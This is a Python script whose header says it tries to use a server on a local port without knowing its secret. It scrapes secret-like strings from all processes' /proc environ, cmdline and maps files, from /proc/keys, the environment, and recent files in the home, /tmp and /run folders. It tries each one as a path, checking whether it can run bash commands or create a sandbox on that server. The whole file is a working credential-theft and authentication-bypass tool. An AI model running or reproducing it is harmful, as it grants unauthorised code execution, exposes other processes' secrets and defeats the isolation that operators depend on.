# Tries to use a server on a port of this machine without knowing its secret. Searches everything
# that this process can read for texts that look like a secret, and tries each. Prints "reached" if
# the server answers at all, then "done" if a call succeeded, otherwise "stopped".
#
# python3 call_server.py PORT [PLACE...]: also searches the files below these places.
import glob, os, re, socket, sys, time

port, places = int(sys.argv[1]), sys.argv[2:]
could_be_a_secret = re.compile(r"[A-Za-z0-9_-]{22,128}")


def ask(method, path, headers="Connection: close\r\n", body=""):
    """Returns the whole answer, or the first bytes of it if the request is an upgrade."""
    head = f"{method} {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {len(body)}\r\n{headers}\r\n"
    answer = b""
    try:
        with socket.create_connection(("127.0.0.1", port), 20) as it:
            it.sendall((head + body).encode())
            while part := it.recv(65536):
                answer += part
                if "Upgrade" in headers:
                    break
    except OSError as error:
        answer += repr(error).encode()
    return answer


def works(base):
    """Whether the server runs code, creates a sandbox or answers a request below this path."""
    upgrade = (
        "Upgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
    )
    return (
        b"m2" in ask("POST", f"{base}/execute?language=bash", body="echo m$((1+1))")
        or ask("GET", f"{base}/create", upgrade).startswith(b"HTTP/1.1 101")
        or ask("GET", f"{base}/status").startswith(b"HTTP/1.1 200")
        or ask("GET", f"{base}/").startswith(b"HTTP/1.1 200")
    )


def files():
    for name in ("cmdline", "environ", "mountinfo", "maps", "comm"):
        yield from glob.glob(f"/proc/[0-9]*/{name}")
    yield from ("/proc/net/unix", "/proc/net/tcp", "/proc/keys", "/etc/hosts", "/etc/resolv.conf")
    for place in [os.getcwd(), os.environ.get("HOME", "/tmp"), "/tmp", "/run", *places]:
        if os.path.realpath(place) == "/":
            continue
        for folder, _, names in os.walk(place):
            yield from (os.path.join(folder, name) for name in names)


def texts():
    yield from (f"{key}={value}" for key, value in os.environ.items())
    for path in files():
        yield path
        try:
            # Older files can't contain the secret: the server is younger.
            is_recent = os.stat(path).st_mtime > time.time() - 900
            if path.startswith("/proc/") or is_recent and os.path.isfile(path):
                with open(path, "rb") as file:
                    yield file.read(1 << 20).decode(errors="replace")
        except OSError:
            pass


health = ask("GET", "/healthz")
print("reached" if health.startswith(b"HTTP/1.1 200") else f"not reached: {health}")
found = {text for it in texts() for text in could_be_a_secret.findall(it)}
# Most of these texts are not a secret, so one cheap request rules them out.
bases = [f"/{it}" for it in found if ask("GET", f"/{it}/status").startswith(b"HTTP/1.1 200")]
print("done" if any(works(base) for base in ["", *bases]) else "stopped")
